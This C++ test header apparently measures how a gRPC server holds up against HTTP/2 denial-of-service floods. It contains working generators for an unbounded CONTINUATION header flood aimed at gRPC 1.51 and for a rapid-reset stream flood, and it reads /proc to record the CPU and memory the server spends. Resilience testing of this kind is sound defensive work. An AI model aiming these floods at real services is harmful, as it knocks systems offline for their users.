// HeaderFlood: the flood of headers that gRPC 1.51 has no bound for: one block of HEADERS that never ends, in frames of
// CONTINUATION, each read in full; and the like, within TLS. Plain numbers of what it costs a process. Header only.
//
//   const Flooded flooded = FloodHeaders({address, own}, master.pid(), 16 << 20, absl::Seconds(20));
#pragma once

#include <openssl/ssl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/time/clock.h"
#include "base/tls/openssl_text.h"
#include "base/tls/tls_authority.h"

namespace stepwell::testing {

inline constexpr char kHttp2Preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

inline std::string Http2Frame(int type, int flags, int stream, const std::string& payload) {
  const auto byte = [](std::size_t value) { return static_cast<char>(value & 0xff); };
  const auto number = static_cast<std::size_t>(stream);
  std::string frame;
  for (const int shift : {16, 8, 0}) frame += byte(payload.size() >> shift);
  frame += {byte(static_cast<std::size_t>(type)), byte(static_cast<std::size_t>(flags))};
  for (const int shift : {24, 16, 8, 0}) frame += byte(number >> shift);
  return frame + payload;
}

// Of a process, from /proc.
struct Cost {
  double cpu_seconds = 0;
  std::int64_t rss_bytes = 0;
};
inline Cost CostOf(pid_t pid) {
  std::stringstream text;
  text << std::ifstream(absl::StrCat("/proc/", pid, "/stat")).rdbuf();
  const std::string all = text.str();
  const std::vector<std::string> words = absl::StrSplit(all.substr(all.rfind(')') + 2), ' ');
  const auto ticks = std::stod(words.at(11)) + std::stod(words.at(12));
  return {ticks / static_cast<double>(sysconf(_SC_CLK_TCK)),
          std::stoll(words.at(21)) * sysconf(_SC_PAGESIZE)};
}

struct Flooded {
  std::int64_t taken_bytes = 0;  // by our kernel, or the other side
  double cpu_seconds = 0;        // of the process
  std::int64_t grown_bytes = 0;
  bool ended = false;  // by the other side
};

struct FloodTarget {
  std::string address;
  TlsPair own = {};  // the certificate that is shown; empty: none
};

// What our own kernel takes is not what the other side takes: left alone it grows to megabytes.
inline void BoundSendBuffer(BIO* connection) {
  int fd = -1;
  if (BIO_get_fd(connection, &fd) < 0 || fd < 0) return;
  const int bytes = 64 << 10;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &bytes, sizeof(bytes));
}

// Sends `begin` and then what `more` gives until `bytes_max` were taken, the other side ends the connection, or `patience` is
// over. What it costs is that of `pid`.
template <typename More>
Flooded FloodWith(const FloodTarget& target, pid_t pid, std::string pending, const More& more,
                  std::int64_t bytes_max, absl::Duration patience) {
  const OpensslOwned<SSL_CTX> context(SSL_CTX_new(TLS_client_method()));
  const OpensslOwned<X509> cert(
      PEM_read_bio_X509(BioOf(target.own.cert_pem).get(), nullptr, nullptr, nullptr));
  const OpensslOwned<EVP_PKEY> key(
      PEM_read_bio_PrivateKey(BioOf(target.own.key_pem).get(), nullptr, nullptr, nullptr));
  if (cert != nullptr) {
    SSL_CTX_use_certificate(context.get(), cert.get());
    SSL_CTX_use_PrivateKey(context.get(), key.get());
  }
  SSL_CTX_set_alpn_protos(context.get(), reinterpret_cast<const unsigned char*>("\x02h2"), 3);
  OpensslOwned<BIO> connection(BIO_new_ssl_connect(context.get()));
  BIO_set_conn_hostname(connection.get(), target.address.c_str());
  BIO_set_nbio(connection.get(), 1);
  const Cost before = CostOf(pid);
  const absl::Time until = absl::Now() + patience;
  Flooded flooded;
  while (flooded.taken_bytes < bytes_max && absl::Now() < until) {
    BoundSendBuffer(connection.get());
    const int taken = BIO_write(connection.get(), pending.data(), static_cast<int>(pending.size()));
    if (taken > 0) {
      flooded.taken_bytes += taken;
      pending.erase(0, static_cast<std::size_t>(taken));
      if (pending.empty()) pending = more();
    } else if (!BIO_should_retry(connection.get())) {
      flooded.ended = true;
      break;
    } else {
      absl::SleepFor(absl::Milliseconds(5));
    }
    // What it says: an alert, answers, or nothing.
    std::string said(4096, '\0');
    const int got = BIO_read(connection.get(), said.data(), static_cast<int>(said.size()));
    if (got == 0 || (got < 0 && !BIO_should_retry(connection.get()))) {
      flooded.ended = true;
      break;
    }
  }
  absl::SleepFor(absl::Milliseconds(500));  // what it still works off
  const Cost after = CostOf(pid);
  flooded.cpu_seconds = after.cpu_seconds - before.cpu_seconds;
  flooded.grown_bytes = after.rss_bytes - before.rss_bytes;
  ERR_clear_error();
  std::printf("flood: %lld bytes taken, %.2f s of CPU, %lld KiB more memory, %s\n",
              static_cast<long long>(flooded.taken_bytes), flooded.cpu_seconds,
              static_cast<long long>(flooded.grown_bytes >> 10),
              flooded.ended ? "ended" : "still open");
  return flooded;
}

inline Flooded FloodHeaders(const FloodTarget& target, pid_t pid, std::int64_t bytes_max,
                            absl::Duration patience) {
  // A literal that says it has 2^31 bytes, and does not end.
  const std::string begin =
      absl::StrCat(std::string(kHttp2Preface), Http2Frame(4, 0, 0, ""),
                   Http2Frame(1, 0, 1, std::string("\x00\x01x\x7f\x80\xff\xff\xff\x07", 9)));
  const std::string more = Http2Frame(9, 0, 1, std::string(16'000, 'a'));
  return FloodWith(
      target, pid, begin, [&] { return more; }, bytes_max, patience);
}

// The headers of a call; without a token where it is empty. REQUIRES: each is shorter than 127 bytes.
inline std::string CallBlock(const std::string& path, const std::string& token) {
  std::string block;
  const auto add = [&](const std::string& name, const std::string& value) {
    block += '\0';
    for (const std::string& text : {name, value}) {
      block += static_cast<char>(text.size());
      block += text;
    }
  };
  add(":method", "POST");
  add(":scheme", "https");
  add(":path", path);
  add(":authority", "localhost");
  add("content-type", "application/grpc");
  add("te", "trailers");
  if (!token.empty()) add("authorization", "Bearer " + token);
  return block;
}

// Calls that are reset as soon as they have begun; `count` says how many.
inline Flooded FloodResets(const FloodTarget& target, pid_t pid, const std::string& block,
                           std::int64_t bytes_max, absl::Duration patience, int& count) {
  count = 0;
  const auto resets = [&] {
    std::string frames;
    for (int at = 0; at < 100; ++at, ++count) {
      const int stream = 1 + 2 * count;
      frames += Http2Frame(1, 4, stream, block);
      frames += Http2Frame(3, 0, stream, std::string("\0\0\0\x08", 4));
    }
    return frames;
  };
  const std::string begin = absl::StrCat(std::string(kHttp2Preface), Http2Frame(4, 0, 0, ""));
  return FloodWith(target, pid, begin, resets, bytes_max, patience);
}

}  // namespace stepwell::testing
